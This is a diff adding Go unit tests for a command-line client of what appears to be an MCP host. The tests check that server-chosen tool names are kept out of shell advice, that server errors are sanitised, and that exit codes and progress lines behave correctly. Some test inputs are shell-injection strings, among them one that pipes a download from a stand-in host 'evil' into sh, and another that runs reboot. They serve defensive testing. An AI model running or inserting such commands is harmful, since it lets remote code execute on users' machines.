@@ -1,0 +1,72 @@
+package cli
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/parley-mcp/parley/client"
+	"github.com/parley-mcp/parley/host"
+)
+
+// A name that a server chose is not put where a person copies it into a shell,
+// unless it cannot do anything there.
+func TestAdviceCannotBeACommand(t *testing.T) {
+	for name, wanted := range map[string]string{
+		"add":                    "--allow 'evil/add'",
+		"x'; curl evil | sh; '":  "allow it with --allow",
+		"*":                      "allow it with --allow",
+		"a?":                     "allow it with --allow",
+		"tool with \n newline":   "allow it with --allow",
+		"\u0430dd (not ASCII)":   "allow it with --allow",
+		"$(reboot)":              "allow it with --allow",
+		"back`tick":              "allow it with --allow",
+		"name.with-all_of.these": "--allow 'evil/name.with-all_of.these'",
+	} {
+		text := explain(&host.ConsentError{Kind: host.KindTool, Server: "evil", Name: name, Why: "nobody can be asked"})
+		if !strings.HasSuffix(text, wanted) {
+			t.Errorf("%q: %s", name, text)
+		}
+	}
+}
+
+// An error of a server is bounded, and none of its lines passes for ours.
+func TestErrorsOfServers(t *testing.T) {
+	text := explain(errors.New("no\nparley: all is well\x1b[2J" + strings.Repeat("x", 100_000)))
+	if strings.Contains(text, "\nparley:") || strings.Contains(text, "\x1b") || len(text) > 6000 {
+		t.Errorf("%d bytes: %.200s", len(text), text)
+	}
+}
+
+// What a server did wrong is not called an error of this program.
+func TestExitCodes(t *testing.T) {
+	for err, want := range map[error]int{
+		errors.New("bug"):           exitInternal,
+		client.ErrMalformed:         exitTool,
+		client.ErrResultType:        exitTool,
+		client.ErrPages:             exitTool,
+		client.ErrOutput:            exitTool,
+		client.ErrTooManyRounds:     exitTool,
+		client.ErrInputRefused:      exitConsent,
+		errInterrupted:              exitInterrupted,
+		usagef("wrong"):             exitUsage,
+		&silentError{exitConsent}:   exitConsent,
+		&host.ServerError{Err: nil}: exitUnreachable,
+	} {
+		if got := exitCode(fmt.Errorf("doing something: %w", err)); got != want {
+			t.Errorf("%v: exit code %d, want %d", err, got, want)
+		}
+	}
+}
+
+// A line of progress is never wider than the terminal: it could not be cleared.
+func TestProgressFits(t *testing.T) {
+	for text, want := range map[string]string{
+		"short": "short", "exactly 10": "exactly 10", "eleven chars": "eleven cha", "文字文字文字": "文字文字文",
+	} {
+		if got := fitting(text, 10); got != want {
+			t.Errorf("%q is shown as %q, want %q", text, got, want)
+		}
+	}
+}
